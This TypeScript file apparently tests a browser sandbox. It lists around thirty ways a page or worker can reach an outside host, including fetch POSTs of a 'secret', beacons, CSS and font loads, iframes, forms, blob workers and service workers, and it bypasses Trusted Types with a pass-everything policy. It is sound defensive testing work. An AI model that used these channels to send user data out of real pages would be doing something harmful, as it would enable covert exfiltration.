/** What became of an attempt, as far as the page itself can tell. The server's log has the last word. */
type Outcome = 'went through' | 'threw' | 'no sign';

/**
 * Tries every way out of a page that we know of; each attempt asks for a path of its own on `outside`. Runs in the page, so
 * it uses nothing from around it.
 */
export async function pageEscapes(outside: string): Promise<Record<string, Outcome>> {
  // TypeScript has no types for Trusted Types yet; what these return stands wherever the policy wants more than text.
  interface Pass {
    createHTML(html: string): string;
    createScript(code: string): string;
    createScriptURL(url: string): string;
  }
  const { trustedTypes } = globalThis as { trustedTypes?: { createPolicy(name: string, rules: Pass): Pass } };
  // Hostile code that got this far could make a policy that lets everything pass, so the attempts do as well.
  const same = (text: string) => text;
  const pass = trustedTypes?.createPolicy('escape', { createHTML: same, createScript: same, createScriptURL: same });
  const scriptUrl = (url: string) => pass?.createScriptURL(url) ?? url;

  const outcomes: Record<string, Outcome> = {};
  async function attempt(way: string, act: (url: string) => unknown): Promise<void> {
    try {
      outcomes[way] = (await act(`${outside}/${way}`)) === true ? 'went through' : 'no sign';
    } catch {
      outcomes[way] = 'threw';
    }
  }
  function append(tag: string, attributes: Record<string, string>, parent: Element = document.body): Element {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  }
  const opened = (target: EventTarget) =>
    new Promise<boolean>((resolve) => {
      target.addEventListener('open', () => resolve(true));
      target.addEventListener('message', () => resolve(true));
      target.addEventListener('error', () => resolve(false));
      setTimeout(() => resolve(false), 700);
    });

  await attempt('fetch', async (url) => (await fetch(url)).ok);
  await attempt('fetch-no-cors', async (url) =>
    Boolean(await fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' })),
  );
  await attempt('fetch-keepalive', async (url) => Boolean(await fetch(url, { mode: 'no-cors', keepalive: true })));
  await attempt('xhr', (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url, false);
    request.send();
    return request.status > 0;
  });
  await attempt('websocket', (url) => opened(new WebSocket(url.replace('http', 'ws'))));
  await attempt('event-source', (url) => opened(new EventSource(url)));
  await attempt('beacon', (url) => {
    navigator.sendBeacon(url, 'secret');
  });
  await attempt('image', (url) => {
    new Image().src = url;
  });
  await attempt('image-srcset', (url) => void append('img', { srcset: `${url} 2x`, alt: '' }));
  await attempt('video', (url) => void append('video', { src: url, preload: 'auto' }));
  await attempt('object', (url) => void append('object', { data: scriptUrl(url) }));
  await attempt('style', (url) => void append('div', { style: `background: url(${url}); width: 9px; height: 9px` }));
  await attempt('style-import', (url) => {
    append('style', {}).textContent = `@import url(${url});`;
  });
  await attempt('font', async (url) => Boolean(await new FontFace('escape', `url(${url})`).load()));
  await attempt('stylesheet', (url) => void append('link', { rel: 'stylesheet', href: url }, document.head));
  await attempt('icon', (url) => void append('link', { rel: 'icon', href: url }, document.head));
  await attempt('prefetch', (url) => void append('link', { rel: 'prefetch', href: url }, document.head));
  await attempt('preload', (url) => void append('link', { rel: 'preload', as: 'script', href: url }, document.head));
  await attempt('modulepreload', (url) => void append('link', { rel: 'modulepreload', href: url }, document.head));
  await attempt('import', async (url) => Boolean(await import(url)));
  await attempt('script', (url) => {
    const script = document.createElement('script');
    script.src = scriptUrl(url);
    document.body.append(script);
  });
  await attempt('inline-script', (url) => {
    const script = document.createElement('script');
    const code = `fetch(${JSON.stringify(url)}); window.inlineScriptRan = true`;
    script.text = pass?.createScript(code) ?? code;
    document.body.append(script);
    return 'inlineScriptRan' in window;
  });
  await attempt('eval', () => {
    const compile = Function as unknown as (code: string) => () => unknown;
    return compile(pass?.createScript('return true') ?? 'return true')();
  });
  await attempt('iframe', (url) => void append('iframe', { src: url }));
  await attempt('iframe-srcdoc', (url) => {
    const frame = document.createElement('iframe');
    const html = `<img src="${url}"><script>fetch("${url}")</script>`;
    frame.srcdoc = pass?.createHTML(html) ?? html;
    document.body.append(frame);
  });
  await attempt('iframe-blank', async (url) => {
    const frame = append('iframe', {}) as HTMLIFrameElement;
    const inside = frame.contentWindow as (Window & typeof globalThis) | null;
    return (await inside?.fetch(url))?.ok;
  });
  await attempt('form', (url) => {
    append('iframe', { name: 'form-target' });
    const form = append('form', { action: url, method: 'post', target: 'form-target' }) as HTMLFormElement;
    form.submit();
  });
  await attempt('worker-url', (url) => {
    new Worker(scriptUrl(url));
  });
  await attempt('worker-own-file', async () => {
    // A worker loaded from an address of our own would not stand under the page's policy at all.
    const worker = new Worker(scriptUrl(new URL('./courier.js', location.href).href));
    return new Promise((resolve) => {
      worker.addEventListener('error', () => resolve(false));
      setTimeout(() => resolve(true), 700);
    });
  });
  await attempt('worker-blob', async (url) => {
    const code = `fetch(${JSON.stringify(url)}).then(() => postMessage(1), (e) => { setTimeout(() => { throw e; }); });`;
    const blob = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
    return opened(new Worker(scriptUrl(blob)));
  });
  await attempt('shared-worker', (url) => {
    new SharedWorker(scriptUrl(url));
  });
  await attempt('service-worker', async (url) => Boolean(await navigator.serviceWorker.register(scriptUrl(url))));
  return outcomes;
}

/** The same for a worker. */
export async function workerEscapes(outside: string): Promise<Record<string, Outcome>> {
  const outcomes: Record<string, Outcome> = {};
  async function attempt(way: string, act: (url: string) => unknown): Promise<void> {
    try {
      outcomes[way] = (await act(`${outside}/${way}`)) === true ? 'went through' : 'no sign';
    } catch {
      outcomes[way] = 'threw';
    }
  }
  const opened = (target: EventTarget) =>
    new Promise<boolean>((resolve) => {
      target.addEventListener('open', () => resolve(true));
      target.addEventListener('message', () => resolve(true));
      target.addEventListener('error', () => resolve(false));
      setTimeout(() => resolve(false), 700);
    });
  interface ScriptUrlPolicy {
    createScriptURL(url: string): string;
  }
  const { trustedTypes } = globalThis as {
    trustedTypes?: { createPolicy(name: string, rules: ScriptUrlPolicy): ScriptUrlPolicy };
  };
  const pass = trustedTypes?.createPolicy('escape', { createScriptURL: (url) => url });
  const scriptUrl = (url: string) => pass?.createScriptURL(url) ?? url;

  await attempt('fetch', async (url) => (await fetch(url)).ok);
  await attempt('fetch-no-cors', async (url) =>
    Boolean(await fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' })),
  );
  await attempt('xhr', (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url, false);
    request.send();
    return request.status > 0;
  });
  await attempt('websocket', (url) => opened(new WebSocket(url.replace('http', 'ws'))));
  await attempt('event-source', (url) => opened(new EventSource(url)));
  await attempt('import', async (url) => Boolean(await import(url)));
  await attempt('eval', () => {
    const compile = Function as unknown as (code: string) => () => unknown;
    return compile('return true')();
  });
  await attempt('worker-url', (url) => opened(new Worker(scriptUrl(url))));
  await attempt('worker-blob', (url) => {
    const code = `fetch(${JSON.stringify(url)}).then(() => postMessage(1), (e) => { setTimeout(() => { throw e; }); });`;
    return opened(new Worker(scriptUrl(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))));
  });
  return outcomes;
}
